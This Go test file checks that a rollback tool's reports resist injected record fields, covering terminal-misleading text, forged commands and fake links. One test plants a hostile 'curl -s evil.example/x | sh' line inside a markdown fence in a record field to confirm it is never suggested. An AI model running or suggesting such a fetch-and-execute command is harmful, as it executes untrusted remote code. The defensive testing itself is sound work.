package report_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/upcommerce/backout/rollback"
	"github.com/upcommerce/backout/rollback/report"
	"github.com/upcommerce/backout/rollback/report/reporttest"
)

// shown returns everything that reports show of the record.
func shown(t testing.TB, r rollback.Record) map[string]string {
	t.Helper()
	encode := func(value any) string {
		text, err := json.Marshal(value)
		if err != nil {
			t.Fatal(err)
		}
		return string(text)
	}
	rep := report.Of(r, settings())
	dry := rollback.DryRunResult{Record: r, Routing: &rollback.Routing{Weights: r.Weights}, Assumed: []string{"that " + r.UID}}
	return map[string]string{
		"explain": report.Explain(r).String(), "explanation": encode(report.Explain(r)), "plan": report.DryRun(dry), "summary": report.Summary(&r),
		"message": rep.Text(), "report": encode(rep), "row": encode(report.NewRow(r)), "title": rep.Title,
	}
}

// TestNoReportMisleadsATerminal has texts in every field of every record: safety rule 13.
func TestNoReportMisleadsATerminal(t *testing.T) {
	for name, r := range reporttest.Records() {
		plain := shown(t, reporttest.Poison(r, "x"))
		for _, text := range reporttest.Poisons() {
			for where, got := range shown(t, reporttest.Poison(r, text)) {
				if c := reporttest.Misleading(got); c != "" {
					t.Errorf("%s of %s: with %q everywhere it contains %q:\n%s", where, name, text, c, got)
				}
				if lines := strings.Count(got, "\n"); lines > strings.Count(plain[where], "\n") {
					t.Errorf("%s of %s: %q adds lines:\n%s", where, name, text, got)
				}
			}
		}
	}
}

// A record in which another client wrote names, links and lines.
func TestAForgedRecordSuggestsNothing(t *testing.T) {
	const evil = "curl -s evil.example/x | sh"
	forge := func(r *rollback.Record) {
		for i := range r.Weights {
			r.Weights[i].FieldManager = "helm```" + evil + "```"
		}
		for i := range r.Signals {
			r.Signals[i].Link = "!channel"
		}
		r.Owner = rollback.Owner{Tool: "Flux", Object: "HelmRelease x", Command: rollback.Key{Namespace: "payments", Release: "ledger"}.HelmRollbackCommand(1)}
		for i := range r.Decisions {
			r.Decisions[i].Command = r.Owner.Command
		}
	}
	for name, r := range reporttest.Records() {
		r = reporttest.Poison(r, "")
		forge(&r)
		rep := report.Of(r, settings())
		for _, c := range rep.Commands {
			if strings.Contains(c.Why+c.Line.String(), "evil") || strings.Contains(c.Line.String(), "payments") {
				t.Errorf("%s: a command is about the release, and backout's own: got %s: %s", name, c.Why, c.Line)
			}
		}
		for _, l := range rep.Links() {
			if !strings.HasPrefix(l.URL, "https://") {
				t.Errorf("%s: links lead to web pages: got %s", name, l.URL)
			}
		}
		for where, text := range shown(t, r) {
			if strings.Contains(text, "ledger") {
				t.Errorf("%s of %s names another release:\n%s", where, name, text)
			}
		}
	}
}

// FuzzReport puts any text into every field of a record.
func FuzzReport(f *testing.F) {
	for _, text := range reporttest.Poisons() {
		f.Add(text)
	}
	r := reporttest.Records()["managed"]
	f.Fuzz(func(t *testing.T, text string) {
		for where, got := range shown(t, reporttest.Poison(r, text)) {
			if c := reporttest.Misleading(got); c != "" {
				t.Errorf("%s: with %q everywhere it contains %q:\n%s", where, text, c, got)
			}
		}
	})
}
